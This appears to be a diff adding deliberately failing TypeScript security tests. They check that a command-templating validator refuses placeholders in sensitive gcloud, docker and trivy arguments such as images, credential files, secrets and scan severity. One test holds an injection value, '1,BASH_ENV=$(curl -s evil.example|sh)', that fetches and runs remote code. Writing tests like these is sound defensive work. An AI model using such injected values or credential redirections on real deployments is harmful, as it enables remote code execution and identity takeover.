@@ -1,0 +1,111 @@
+// REVIEW (failing on purpose): forms the review of the cosign, trivy, gcloud, buildx and registry-login commits
+// (3d4b5f89 … 271670b9) found accepted although they choose what runs, whose image it is, where the credentials
+// go, or what a scan looks at. Each test fails on the current code; the message patterns are loose on purpose
+// (any refusal naming the template), since the wording is the fix's to choose.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { assertRefused, assertScriptRefused, renderArgv, renderLine } from '../../helpers/command-checks.ts';
+
+const ANY = /\{\{x\}\}/;
+
+test("gcloud --user-output-enabled takes an optional true|false (nargs='?'): the command after it is still read", () => {
+  // calliope: add_argument('--user-output-enabled', nargs='?', const='true', choices=('true', 'false'), …), so
+  // gcloud reads `false` as its value and then runs `run deploy …`; here `false` is read as the first group.
+  assertRefused(
+    ['gcloud', '--user-output-enabled', 'false', 'run', 'deploy', 'svc', '--image', '{{x}}'],
+    ANY,
+  );
+  assertRefused(['gcloud', '--user-output-enabled', 'false', 'auth', 'configure-docker', '{{x}}'], ANY);
+  assertRefused(
+    ['gcloud', '--user-output-enabled', 'true', 'config', 'set', 'api_endpoint_overrides/run', '{{x}}'],
+    ANY,
+  );
+  assertRefused(['gcloud', '--user-output-enabled', 'false', 'run', 'services', 'replace', '{{x}}'], ANY);
+});
+
+test('gcloud --flatten (a wide flag of every command) takes a value: the login and config set after it are still read', () => {
+  // `gcloud --flatten x run deploy --image {{x}}` is refused (unknown option), but these are accepted.
+  assertRefused(['gcloud', '--flatten', 'x', 'auth', 'configure-docker', '{{x}}'], ANY);
+  assertRefused(['gcloud', '--flatten', 'x', 'config', 'set', 'api_endpoint_overrides/run', '{{x}}'], ANY);
+});
+
+test("Artifact Registry's project and a regional gcr.io host's account are an account anyone can make", () => {
+  // A public Artifact Registry repository of the value's project: any image, run by Cloud Run as the service.
+  assertRefused(
+    ['gcloud', 'run', 'deploy', 'svc', '--image', 'us-central1-docker.pkg.dev/{{x}}/repo/app:1'],
+    ANY,
+  );
+  assertRefused(['docker', 'pull', 'europe-west1-docker.pkg.dev/{{x}}/repo/app:1'], ANY);
+  assertRefused(['docker', 'pull', 'us.gcr.io/{{x}}/app:1'], ANY);
+});
+
+test('gcloud --set-env-vars/--update-env-vars KEY={{x}}: a comma in the value adds variables (BASH_ENV, NODE_OPTIONS)', () => {
+  for (const argv of [
+    ['gcloud', 'run', 'deploy', 'svc', '--image', 'gcr.io/p/app:1', '--set-env-vars', 'VERSION={{x}}'],
+    ['gcloud', 'run', 'services', 'update', 'svc', '--update-env-vars=VERSION={{x}}'],
+    ['gcloud', 'functions', 'deploy', 'fn', '--set-build-env-vars', 'VERSION={{x}}'],
+  ]) {
+    const bad = '1,BASH_ENV=$(curl -s evil.example|sh)';
+    assert.throws(() => renderArgv(argv, bad), ANY, `${argv.join(' ')} with ${bad}`);
+    assert.throws(() => renderLine(argv, bad), ANY, `${argv.join(' ')} with ${bad}`);
+    assert.doesNotThrow(() => renderArgv(argv, '1.2.3'));
+  }
+});
+
+test('the buildx builder is chosen by docker image build, docker builder build and docker compose build too', () => {
+  assertRefused(['docker', 'image', 'build', '--builder', '{{x}}', '.'], ANY);
+  assertRefused(['docker', 'builder', 'build', '--builder', '{{x}}', '.'], ANY);
+  assertRefused(['docker', 'compose', 'build', '--builder', '{{x}}'], ANY);
+});
+
+test("gcloud's other commands choosing what runs, its image or its secrets", () => {
+  // Cloud Run worker pools take --image/--command/--args as services do; jobs execute --args overrides the args.
+  assertRefused(['gcloud', 'run', 'worker-pools', 'deploy', 'w', '--image', '{{x}}'], ANY);
+  assertRefused(
+    ['gcloud', 'run', 'worker-pools', 'deploy', 'w', '--image', 'gcr.io/p/a:1', '--command', '{{x}}'],
+    ANY,
+  );
+  assertRefused(['gcloud', 'run', 'jobs', 'execute', 'j', '--args', '{{x}}'], ANY);
+  // Cloud Functions (2nd gen) --set-secrets: any secret of the project, as run deploy's.
+  assertRefused(['gcloud', 'functions', 'deploy', 'fn', '--set-secrets', 'KEY={{x}}:latest'], ANY);
+  // app deploy --appyaml replaces the deployable's app.yaml (gcloud app deploy {{x}} is refused).
+  assertRefused(['gcloud', 'app', 'deploy', '--appyaml', '{{x}}'], ANY);
+  // Cloud Deploy: the source uploaded (skaffold.yaml, the manifests) says what is deployed.
+  assertRefused(
+    ['gcloud', 'deploy', 'releases', 'create', 'r', '--delivery-pipeline', 'p', '--source', '{{x}}'],
+    ANY,
+  );
+  assertRefused(
+    ['gcloud', 'deploy', 'releases', 'create', 'r', '--delivery-pipeline', 'p', '--skaffold-file', '{{x}}'],
+    ANY,
+  );
+  // builds submit --pack image=IMAGE names the image it builds and pushes, as --tag does.
+  assertRefused(['gcloud', 'builds', 'submit', '--pack', 'image={{x}}'], ANY);
+  // Container-Optimized OS VMs run --container-image.
+  assertRefused(
+    ['gcloud', 'compute', 'instances', 'create-with-container', 'vm', '--container-image', '{{x}}'],
+    ANY,
+  );
+  assertRefused(
+    ['gcloud', 'compute', 'instances', 'update-container', 'vm', '--container-image', '{{x}}'],
+    ANY,
+  );
+});
+
+test('who gcloud acts as, in the forms besides --account and --key-file', () => {
+  // auth print-access-token [ACCOUNT]: the token of any account of this machine (then given to docker login).
+  assertRefused(['gcloud', 'auth', 'print-access-token', '{{x}}'], ANY);
+  // auth login --cred-file: a credential file (a key, or a workload identity config naming its token URL).
+  assertRefused(['gcloud', 'auth', 'login', '--cred-file={{x}}'], ANY);
+  // The credential file every Google client library (and docker-credential-gcr, terraform) acts with.
+  assertRefused(['env', 'GOOGLE_APPLICATION_CREDENTIALS={{x}}', 'gcloud', 'run', 'deploy', 'svc'], ANY);
+  // google-github-actions/auth exports CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE: assigning it changes gcloud's.
+  assertScriptRefused(
+    'CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE={{x}}; gcloud run deploy svc --image gcr.io/p/a:1',
+    ANY,
+  );
+});
+
+test('trivy --severity chooses what the gate fails on, as TRIVY_SEVERITY (refused) does', () => {
+  assertRefused(['trivy', 'image', '--exit-code', '1', '--severity', '{{x}}', 'reg/app:1'], ANY);
+});
